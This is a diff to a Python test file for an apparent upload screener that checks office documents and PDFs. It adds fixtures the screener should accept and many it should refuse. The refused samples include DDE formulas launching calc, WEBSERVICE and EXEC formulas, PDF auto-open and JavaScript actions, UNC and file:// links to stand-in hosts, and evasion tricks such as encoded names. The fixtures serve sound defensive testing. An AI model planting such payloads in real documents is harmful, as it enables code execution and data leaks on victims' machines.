@@ -15,6 +15,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
 from openpyxl.chart import BarChart, Reference
 from openpyxl.comments import Comment
+from openpyxl.worksheet.datavalidation import DataValidation
 from pypdf import PdfReader, PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
@@ -119,6 +120,11 @@ def in_stream(body: bytes, way: bytes = b"/Filter/FlateDecode", about: bytes = b
     )  # fmt: skip
 
 
+def opens(value: str, more: str = "", name: str = "OpenAction") -> bytes:
+    """A PDF as somebody writes it by hand who wants something to be done when it is opened."""
+    return f"%PDF-1.7\n1 0 obj<</Type/Catalog/{name} {value}>>endobj\n{more}\ntrailer<</Root 1 0 R>>\n%%EOF".encode()
+
+
 def with_relation(raw: bytes, part: str, kind: str, target: str, mode: str = "External") -> bytes:
     relation = f'<Relationship Id="rX" Type="{RELATED}/{kind}" Target="{target}" TargetMode="{mode}"/>'
     return changed(raw, {part: before("</Relationships>", relation)})
@@ -138,16 +144,108 @@ def field(*codes: str) -> bytes:
 WORD_RELATIONS = "word/_rels/document.xml.rels"
 SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+
+
+def cell(formula: str) -> bytes:
+    """A sheet with one formula, as it stands in the file."""
+    text = formula.replace("&", "&amp;").replace("<", "&lt;")
+    return changed(
+        sheet(),
+        {
+            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData><row r="1"><c r="A1"><f>{text}</f></c></row></sheetData></worksheet>'
+        },
+    )
+
+
+def reckoned(formula: str) -> bytes:
+    """The same as LibreOffice writes it."""
+    text = formula.replace('"', "&quot;")
+    space = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
+    return open_document("spreadsheet", content=f'<t:table-cell xmlns:t="{space}" t:formula="{text}"/>')
+
+
+def body(text: str) -> bytes:
+    """A text of Word with namespaces of all that may stand in one."""
+    spaces = (
+        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:elsewhere" '
+        f'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:r="{RELATED}"'
+    )
+    return hostile_.word(f"<w:p {spaces}>{text}</w:p>")
+
+
+def code(*parts: str) -> str:
+    """A field of Word: its code in runs, or what stands between them when it is an element."""
+    runs = "".join(one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in parts)
+    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
+    return f"{begin}{runs}{middle}<w:r><w:t>1</w:t></w:r>{end}"
+
+
+def settings_of(text: str) -> bytes:
+    return changed(word(), {"word/settings.xml": f'<w:settings xmlns:w="{WORD}">{text}</w:settings>'})
+
+
+def everyday_sheet() -> bytes:
+    """Sums, a list to choose from, a sheet of another name, a link, a table, and what Google leaves in it."""
+    made = openpyxl.Workbook()
+    page: Any = made.active
+    page.title = "Uren '25 (concept)"
+    rows = ("=SUM(B1:B9)", "=IF(B1>3,\"ja|nee\",\"\")", "=VLOOKUP(B1,'Uren ''25 (concept)'!B1:C9,2,FALSE)", "=_xlfn.XLOOKUP(B1,B1:B9,C1:C9)",
+            '=HYPERLINK("https://school.example/plan","plan")', "=SUM(Uren[Aantal (u)])", "=-A1+3%", "=TODAY()")  # fmt: skip
+    for n, formula in enumerate(rows, 1):
+        page.cell(n, 1, formula)
+    chosen = DataValidation("list", formula1='"ja,nee"')
+    page.add_data_validation(chosen)
+    chosen.add("D1:D9")
+    google = '<Relationship Id="rG" Type="http://customschemas.google.com/relationships/workbookmetadata" Target="metadata"/>'
+    declared = '<Override PartName="/xl/metadata" ContentType="application/binary"/>'
+    return changed(saved(made), {"xl/metadata": b"\x0a\x02", "xl/_rels/workbook.xml.rels": before("</Relationships>", google),
+                                 "[Content_Types].xml": before("</Types>", declared)})  # fmt: skip
+
+
+def everyday_text() -> bytes:
+    """A text of LibreOffice with a chart, made from a template."""
+    space = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:meta="m" xmlns:chart="c"'
+    parts: dict[str, bytes | str] = {
+        "Pictures/100.png": picture(), "Pictures/200.svg": picture("svg"), "ObjectReplacements/Object 1": picture(),
+        "Object 1/content.xml": f'<office:document-content {space}><chart:chart xlink:href=".."/></office:document-content>',
+        "Object 1/styles.xml": f"<office:document-styles {space}/>",
+        "meta.xml": f'<office:document-meta {space}><meta:template xlink:href="../../sjablonen/brief.ott"/></office:document-meta>',
+        "settings.xml": f"<office:document-settings {space}/>", "manifest.rdf": "<rdf/>", "layout-cache": b"\1",
+        "Configurations2/images/Bitmaps/": b"", "Configurations2/toolbar/": b"",
+    }  # fmt: skip
+    shown = (
+        '<office:scripts/><draw:object xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'
+        '<draw:image xlink:href="Pictures/100.png"/><text:a xlink:href="mailto:ib@school.example"/><text:a xlink:href="#kop"/>'
+    )
+    return open_document(parts=parts, content=shown)
+
+
+ALTERNATE = "<mc:AlternateContent><mc:Choice>{}</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>"
+RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
+
 TAKEN: dict[str, Callable[[], bytes]] = {
     "plan.docx": word,
     "met-grafiek.docx": lambda: with_part(word(), "word/embeddings/Microsoft_Excel_Sheet1.xlsx", SHEET_TYPE, sheet()),
     "link.docx": lambda: with_relation(word(), WORD_RELATIONS, "hyperlink", "https://school.example/"),
     "veld.docx": lambda: field("PAGE ", " \\* MERGEFORMAT"),
+    "inhoud.docx": lambda: body(code('TOC \\o "1-3" \\h') + code("PAGEREF _Toc1 \\h") + code("IF ", code("PAGE"), " = 2 a b") + code("= ", code("PAGE"), " - 1")),
+    "verwijst.docx": lambda: body(code('HYPERLINK "https://school.example/plan" \\o "Zie: plan"') + code('HYPERLINK \\l "kop"')),
+    "tekstvak.docx": lambda: body("<w:r>" + ALTERNATE.format(f"<w:p>{code('PAGE')}</w:p>", f"<v:textbox><w:p>{code('PAGE')}</w:p></v:textbox>") + "</w:r>"),
+    "tekening.docx": lambda: with_part(word(), "word/media/a.svg", "image/svg+xml", picture("svg")),
     "uren.xlsx": sheet,
-    "plan.odt": lambda: open_document(content='<text:a xlink:href="https://school.example/"/><draw:image xlink:href="Pictures/a.png"/>'),
+    "alledaags.xlsx": everyday_sheet,
+    "alledaags.odt": everyday_text,
+    "som.ods": lambda: reckoned("of:=SUM([.A1:.A9])+COM.MICROSOFT.CONCAT([$'Blad 2'.A1];\"|\")"),
+    "plan.odt": lambda: open_document(content='<text:a xlink:href="https://school.example/"/><draw:image xlink:href="Thumbnails/thumbnail.png"/>'),
     "uren.ods": lambda: open_document("spreadsheet"),
     "avond.odp": lambda: open_document("presentation"),
     "plan.pdf": pages,
+    "bladwijzers.pdf": lambda: written(lambda writer: writer.add_outline_item("Kop", 0)),
+    "lettertype.pdf": lambda: pages().replace(b"/Type/Pages", b"/X/Arial#20Vet/Type/Pages"),
+    "verwijst.pdf": lambda: pages() + b"7 0 obj<</S/URI/URI(www.school.example/a\\(b\\))>>endobj",
+    "blad.pdf": lambda: pages().replace(b"/Type/Catalog", b"/OpenAction[1 0 R/XYZ null null 0]/Type/Catalog"),
     "begin.pdf": lambda: opening("GoTo"),
     "gepakt.pdf": lambda: in_stream(b"9 0 <</S/GoTo/D[1 0 R]>>"),
     "foto.png": picture,
@@ -202,6 +300,69 @@ REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
     "stroom-verschoven.pdf": (lambda: in_stream(b"9 0 <<>>", b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>"), "cannot look into"),
     "stroom-verzwegen.pdf": (lambda: in_stream(b"9 0 <</S/Launch/F(cmd)>>", about=b"/Type/Metadata"), "more than show"),
     "bom.pdf": (lambda: in_stream(b"9 0 " + bytes(200_000_000)), "unpacks to more"),
+    "commentaar.pdf": (lambda: opens("%c\n<</S/URI/URI(https://x.example/)>>"), "more than show"),
+    "gecodeerde-naam.pdf": (lambda: opens("<</S/URI/URI(https://x.example/)>>", name="Open#41ction"), "more than show"),
+    "daarna.pdf": (lambda: opens("4 0 R", "4 0 obj<</S/GoTo/D[1 0 R]/Next 5 0 R>>endobj 5 0 obj<</S/URI/URI(https://x.example/)>>endobj"), "more than show"),
+    "herzien.pdf": (lambda: opens("4 0 R", "4 0 obj[1 0 R/Fit]endobj\n4 0 obj<</S/URI/URI(https://x.example/)>>endobj"), "more than show"),
+    "weg.pdf": (lambda: opens("4 0 R"), "cannot look into"),
+    "drukt.pdf": (lambda: opens("<</S/Named/N/Print>>"), "more than show"),
+    "bladzijde.pdf": (lambda: pages().replace(b"/Type/Catalog", b"/AA<</O<</S/URI/URI(https://x.example/)>>>>/Type/Catalog"), "more than show"),
+    "bladzijde-verwijst.pdf": (lambda: pages().replace(b"/Type/Catalog", b"/A#41 %c\n 9 0 R/Type/Catalog"), "more than show"),
+    "stroom-spatie.pdf": (lambda: in_stream(b"9 0 <</S/JavaScript/JS(app.alert(1))>>").replace(b">>stream\n", b">>stream \t\n"), "more than show"),
+    "stroom-commentaar.pdf": (lambda: in_stream(b"9 0 <<>>").replace(b">>stream\n", b">>%c\nstream\n"), "cannot look into"),
+    "stroom-tekst.pdf": (lambda: in_stream(b"9 0 <<>>", way=b"/X( obj)/Filter/LZWDecode"), "cannot look into"),
+    "stroom-half.pdf": (lambda: in_stream(b"9 0 " + bytes(range(256)) * 40).replace(b"\nendstream", b"")[:-60] + b"\ntrailer<</Root 1 0 R>>\n%%EOF", "cannot look into"),
+    "schijf.pdf": (lambda: pages().replace(b"(https://school", b"(file://\\\\school"), "more than show"),
+    "schijf-octaal.pdf": (lambda: pages().replace(b"(https://school", b"(\\146ile://school"), "more than show"),
+    "van-elders.pdf": (lambda: pages() + b"9 0 obj<</FS/URL/F(https://x.example/)>>endobj", "more than show"),
+    "veldplaatje.docx": (lambda: body(code('INCLUDEPICTURE "\\\\x.example\\a.png" \\d')), "fetches"),
+    "veld-onbekend.docx": (lambda: body(code("MACROBUTTON AutoOpen klik")), "fetches"),
+    "veld-in-veld.docx": (lambda: body(code(code("REF a"), " c:\\x")), "fetches"),
+    "veld-half.docx": (lambda: body(code("DA", code("REF a"), " c:\\x")), "fetches"),
+    "veld-verwijst.docx": (lambda: body(code('HYPERLINK "\\\\x.example\\a"')), "fetches"),
+    "veld-open.docx": (lambda: body(code("DDEAUTO x").rpartition("<w:r><w:fldChar")[0]), "fetches"),
+    "veld-keuze.docx": (lambda: body(code(ALTERNATE.format(RUN.format("PAGE "), RUN.format("DDEAUTO x")))), "fetches"),
+    "veld-genegeerd.docx": (lambda: body(code(f"<x:weg>{RUN.format('PAGE ')}</x:weg>", "DDEAUTO x")), "fetches"),
+    "vml.docx": (lambda: body('<w:r><w:pict><v:shape><v:imagedata src="http://x.example/a.png"/></v:shape></w:pict></w:r>'), "fetches"),
+    "vml-vulling.docx": (lambda: body('<w:r><w:pict><v:rect><v:fill o:href="http://x.example/a.png"/></v:rect></w:pict></w:r>'), "fetches"),
+    "ole-vml.docx": (lambda: body('<w:r><w:object><o:OLEObject Type="Link" r:id="r1"/></w:object></w:r>'), "another programme"),
+    "onderdeel.docx": (lambda: body('<w:subDoc r:id="r1"/>'), "fetches"),
+    "plaatje-zonder.docx": (lambda: with_relation(word(), WORD_RELATIONS, "image", "http://x.example/a.png", ""), "fetches"),
+    "plaatje-pad.docx": (lambda: with_relation(word(), WORD_RELATIONS, "image", "\\\\x.example\\a.png", "Internal"), "fetches"),
+    "plaatje-schijf.docx": (lambda: with_relation(word(), WORD_RELATIONS, "image", "../../../a.png", "Internal"), "fetches"),
+    "link-schijf.docx": (lambda: with_relation(word(), WORD_RELATIONS, "hyperlink", "file:///c:/a.exe"), "fetches"),
+    "soort-onbekend.docx": (lambda: with_relation(word(), WORD_RELATIONS, "nieuwigheid", "document.xml", "Internal"), "another programme"),
+    "rondzenden.docx": (lambda: settings_of('<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'), "fetches"),
+    "knop.pptx": (lambda: with_part(word(), "ppt/slides/a.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml", '<hlinkClick action="ppaction://hlinkfile"/>'), "another programme"),
+    "verbinding.xlsx": (lambda: with_part(sheet(), "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", f'<connections xmlns="{SHEET}"/>'), "another programme"),
+    "verbinding-vermomd.xlsx": (lambda: with_relation(changed(sheet(), {"xl/a.xml": f'<connections xmlns="{SHEET}"/>'}), "xl/_rels/workbook.xml.rels", "connections", "a.xml", "Internal"), "another programme"),
+    "web.xlsx": (lambda: cell('_xlfn.WEBSERVICE("https://x.example/"&A2)'), "fetches"),
+    "beeld.xlsx": (lambda: cell('_xlfn.IMAGE("https://x.example/a")'), "fetches"),
+    "dde.xlsx": (lambda: cell("cmd|'/c calc'!A0"), "fetches"),
+    "dde-spatie.xlsx": (lambda: cell("1+cmd |x!A0"), "fetches"),
+    "roept.xlsx": (lambda: cell('IF(TRUE,CALL ("a","b"))'), "fetches"),
+    "rtd.xlsx": (lambda: cell('RTD("a",,"b")'), "fetches"),
+    "map.xlsx": (lambda: cell("'\\\\x.example\\[a.xlsx]b'!A1"), "fetches"),
+    "link-map.xlsx": (lambda: cell('HYPERLINK("\\\\x.example\\a","plan")'), "fetches"),
+    "naam.xlsx": (lambda: changed(sheet(), {"xl/workbook.xml": before("</workbook>", f'<definedNames xmlns="{SHEET}"><definedName name="a">EXEC("calc")</definedName></definedNames>')}), "fetches"),
+    "keuzelijst.xlsx": (lambda: changed(sheet(), {"xl/worksheets/sheet1.xml": before("</worksheet>", f'<formula1 xmlns="{SHEET}">FILTERXML(A1,A2)</formula1>')}), "fetches"),
+    "spatie.odt": (lambda: open_document(content='<draw:image xlink:href=" https://x.example/a.png"/>'), "fetches"),
+    "schijf.odt": (lambda: open_document(content='<draw:image xlink:href="/etc/passwd"/>'), "fetches"),
+    "erbuiten.odt": (lambda: open_document(content='<draw:image xlink:href="../a.png"/>'), "fetches"),
+    "verwijst.odt": (lambda: open_document(content='<text:a xlink:href="file:///c:/a.exe"/>'), "fetches"),
+    "herlaadt.odt": (lambda: open_document(parts={"meta.xml": '<m xmlns:meta="a"><meta:auto-reload/></m>'}), "fetches"),
+    "sjabloon.odt": (lambda: open_document(parts={"meta.xml": '<m xmlns:meta="a" xmlns:xlink="http://www.w3.org/1999/xlink"><meta:template xlink:href="https://x.example/a.ott"/></m>'}), "fetches"),
+    "deel-object.odt": (lambda: open_document(parts={"Object 1/settings.xml": '<m xmlns:x="http://www.w3.org/1999/xlink" x:href="//x.example/a"/>'}), "fetches"),
+    "toetsen.odt": (lambda: open_document(parts={"Configurations2/accelerator/current.xml": '<a:acceleratorlist xmlns:a="b"><a:item/></a:acceleratorlist>'}), "macros"),
+    "tekening.odt": (lambda: open_document(parts={"Pictures/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'}), "macros"),
+    "tekening-elders.odt": (lambda: open_document(parts={"Pictures/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://x.example/a"/></svg>'}), "fetches"),
+    "onbekend.odt": (lambda: open_document(parts={"Versions/Version1.xml": "<a/>"}), "another programme"),
+    "gegevens.odt": (lambda: open_document(content='<text:database-display/>'), "fetches"),
+    "web.ods": (lambda: reckoned('of:=WEBSERVICE("https://x.example/")'), "fetches"),
+    "dde.ods": (lambda: reckoned('of:=DDE("soffice";"a";"b")'), "fetches"),
+    "map.ods": (lambda: reckoned("of:=['file:///c:/a.ods'#$Blad1.A1]"), "fetches"),
+    "excel.ods": (lambda: reckoned("msoxl:=cmd|'/c calc'!A0"), "fetches"),
+    "snel.txt": (lambda: b"[InternetShortcut]\r\nURL=file://x.example/a\r\n", "not taken"),
     "toepassing.hta": (lambda: b"<html><hta:application><script>1</script>", "not taken"),
     "toepassing.txt": (lambda: b"aardig <script>1</script>", "not taken"),
     "snel.lnk": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(100), "not taken"),
